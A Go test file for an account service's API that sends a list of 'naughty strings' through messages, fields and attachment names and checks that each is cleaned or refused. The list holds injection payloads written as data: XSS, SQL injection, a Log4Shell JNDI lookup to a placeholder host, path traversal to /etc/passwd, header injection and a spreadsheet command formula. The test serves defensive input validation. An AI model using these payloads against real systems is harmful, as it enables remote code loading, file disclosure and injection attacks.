package server_test

import (
	"strings"
	"testing"

	"myaccount/services/api"
)

// naughty are texts that have broken other programs: markup, queries, formats, scripts of every direction, what cannot be
// seen, numbers that are none, and very long ones. In the manner of minimaxir/big-list-of-naughty-strings.
var naughty = []string{
	planted, "null", "undefined", "NaN", "-1", "1e309", "0x7f", "true", "\\", "'", "\"", "`", "<script>alert(1)</script>", "' OR 1=1 --", "%s%n%d", "{{.}}",
	"${jndi:ldap://example.ca/a}", "../../etc/passwd", "a\r\nBcc: b@example.ca", "\u202etxt.exe", "\ufeffbom", "\u200b", "\x00", "a\x00b", "\x1b[31mred",
	"שלום", "مرحبا", "日本語", "👩‍👩‍👧‍👦", "🏳️‍🌈", "Z̸̢a̷l̵g̶o̴", "ﷺ", "é", "e\u0301", "İ", "ß", "ﬀ", "\u2028line", "\ufffd", "\U0010ffff",
	"CON", "=cmd|' /C calc'!A0", strings.Repeat("x", 5000), strings.Repeat("🙂", 2000),
}

// changed tells what core's cleaning makes of a text, which it promises in services/text.
var dropped = strings.NewReplacer("\x00", "", "\x1b", "", "\u202e", "", "\ufeff", "", "\r\n", "\n", "\u2028", "\n")

// TestNaughty sends every such text as a message, a file's name, a search and a name of a person: it comes back as it was,
// but for what cannot be shown, or its field is refused by name.
func TestNaughty(t *testing.T) {
	h := newHarness(t)
	token := h.customer(alice)
	agreement := h.agreement(token)
	for i, words := range naughty {
		key := map[string]string{api.HeaderIdempotencyKey: "key-of-text-" + string(rune('A'+i%26)) + string(rune('a'+i/26))}
		r := h.do(request{
			method: "POST", path: api.PathThreads, token: token, header: key,
			body: api.NewThread{Topic: "other", AgreementID: agreement, Body: words},
		})
		if r.status != 201 {
			if p := r.problem(); p.Status != 422 || p.Fields["body"] == "" || len(p.Fields) != 1 {
				t.Errorf("%.40q: %s", words, r.body)
			}
		} else {
			var receipt api.Receipt
			r.into(&receipt)
			var thread api.Thread
			h.do(request{method: "GET", path: of(api.PathThread, receipt.ThreadID), token: token}).want(200).into(&thread)
			if got := thread.Messages[0].Body; got != dropped.Replace(words) {
				t.Errorf("%.40q came back as %.40q", words, got)
			}
		}
		for field, body := range map[string]any{
			"topic":          api.NewThread{Topic: words, AgreementID: agreement, Body: "x"},
			"agreement_id":   api.NewThread{Topic: "other", AgreementID: words, Body: "x"},
			"attachment_ids": api.NewThread{Topic: "other", AgreementID: agreement, Body: "x", AttachmentIDs: []string{words}},
		} {
			r := h.do(request{method: "POST", path: api.PathThreads, token: token, header: map[string]string{api.HeaderIdempotencyKey: "key-of-what-fails"}, body: body})
			if p := r.problem(); p.Status != 422 || p.Fields[field] == "" || len(p.Fields) != 1 {
				t.Errorf("%s %.40q: %s", field, words, r.body)
			}
		}
		file := h.attach(token, "key-of-file-"+string(rune('A'+i%26))+string(rune('a'+i/26)), words+".txt", []byte("the content"))
		var kept api.Attachment
		if file.status == 201 {
			file.into(&kept)
			h.do(request{method: "DELETE", path: of(api.PathAttachment, kept.ID), token: token}).want(204)
		} else if p := file.problem(); p.Status >= 500 || p.Fields["name"] == "" {
			t.Errorf("file %.40q: %s", words, file.body)
		}
	}
}
